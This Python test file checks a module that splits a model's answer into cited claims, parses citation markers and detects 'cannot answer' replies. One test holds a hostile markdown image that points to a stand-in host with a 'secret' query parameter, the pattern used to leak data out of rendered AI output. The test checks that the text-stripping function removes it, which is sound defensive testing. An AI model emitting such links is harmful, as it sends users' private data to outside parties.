"""Cutting a model's answer into claims and finding its markers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from prompts import CANNOT_ANSWER
from qa.claims import cannot_answer, markers, parse, plain


def claims(text: str, *verbatim: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(found.text, found.numbers) for found in parse(text, verbatim)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "X won the war. [1] Then Y came [2, 3]. Z left.[1][4]",
            [("X won the war.", (1,)), ("Then Y came.", (2, 3)), ("Z left.", (1, 4))],
        ),
        ("X won [1-3]. Y lost [Passage 2].", [("X won.", (1, 2, 3)), ("Y lost.", (2,))]),
        ("X won [^1]. Y lost 【2†source】.", [("X won.", (1,)), ("Y lost.", (2,))]),
        ("According to [1], the MNLA lost Gao.", [("The MNLA lost Gao.", (1,))]),
        ("[1] X did it. [2] Y did that.", [("X did it.", (1,)), ("Y did that.", (2,))]),
        ("- A was here [1]\n- B was there [2].\n\n1. C came.", [("A was here", (1,)), ("B was there.", (2,)), ("C came.", ())]),
        ("He came in 2012 [1] and left in 2013 [2].", [("He came in 2012 and left in 2013.", (1, 2))]),
        ("Dr. Smith of the U. S. Army came. He left.", [("Dr. Smith of the U. S. Army came.", ()), ("He left.", ())]),
        ("It was a war.\n[2]", [("It was a war.", (2,))]),
        ("He said [sic] so [...] [1].", [("He said [sic] so [...].", (1,))]),
        ("", []),
        ("[7]", []),
        ("…", []),
    ],
)
def test_claims_and_their_markers(text: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
    assert claims(text) == expected


def test_offsets_are_exact() -> None:
    text = "X won the war [1].  Then Y\tcame. [2, 9]\n- Z left."
    found = parse(text)
    assert [text[f.start : f.end] for f in found] == ["X won the war [1].", "Then Y\tcame.", "Z left."]
    assert [text[m.start : m.end] for f in found for m in f.markers] == ["[1]", "[2, 9]"]
    assert [f.before for f in found] == ["", "  ", "\n- "]


def test_a_copied_sentence_is_one_claim_and_its_brackets_are_text() -> None:
    copied = "Gao fell.[12] The rebels left at 7 a.m. Nobody saw it"
    assert claims(f"{copied} [3]\nIt ended. [1]", copied) == [(copied, (3,)), ("It ended.", (1,))]


@pytest.mark.parametrize(
    "text", ["It is false that the city fell.", "Nobody believed: the city fell.", "the city fell. in a film"]
)
def test_a_copy_inside_a_longer_sentence_is_not_cut_out(text: str) -> None:
    assert "the city fell." not in [claim for claim, _ in claims(text, "the city fell.")] or text.startswith("the city fell. ")


def test_copies_overlapping_and_repeated() -> None:
    assert claims("A b c. A b c. [1]", "A b c.", "b c.") == [("A b c.", ()), ("A b c.", (1,))]


def test_markers_of_a_text() -> None:
    assert [(m.text, m.numbers) for m in markers("a [1] b [2012] c [x] [3 and 4] [1-900]")] == [
        ("[1]", (1,)),
        ("[2012]", (2012,)),
        ("[3 and 4]", (3, 4)),
        ("[1-900]", (1, 900)),
    ]


def test_plain_leads_nowhere() -> None:
    hostile = "It **fell**. ![x](https://evil.test/?q=secret) See [the page](https://evil.test) `now`."
    assert plain(hostile) == "It fell.  See the page now."


@pytest.mark.parametrize(
    "text", [CANNOT_ANSWER, CANNOT_ANSWER.lower()[:-1], f"{CANNOT_ANSWER} [1]", f"**{CANNOT_ANSWER}** Sorry."]
)
def test_saying_that_it_cannot_answer(text: str) -> None:
    assert cannot_answer(text)


def test_not_saying_so() -> None:
    assert not cannot_answer(f"Gao fell. {CANNOT_ANSWER}")
    assert not cannot_answer("")


@given(st.text(alphabet="ab1. []\n-,【】(*!", max_size=60))
def test_any_text_is_cut_in_order_without_overlap(text: str) -> None:
    at = 0
    for found in parse(text, ["a b.", "1 a"]):
        assert at <= found.start < found.end <= len(text)
        assert found.text and any(c.isalnum() for c in found.text)
        at = found.end
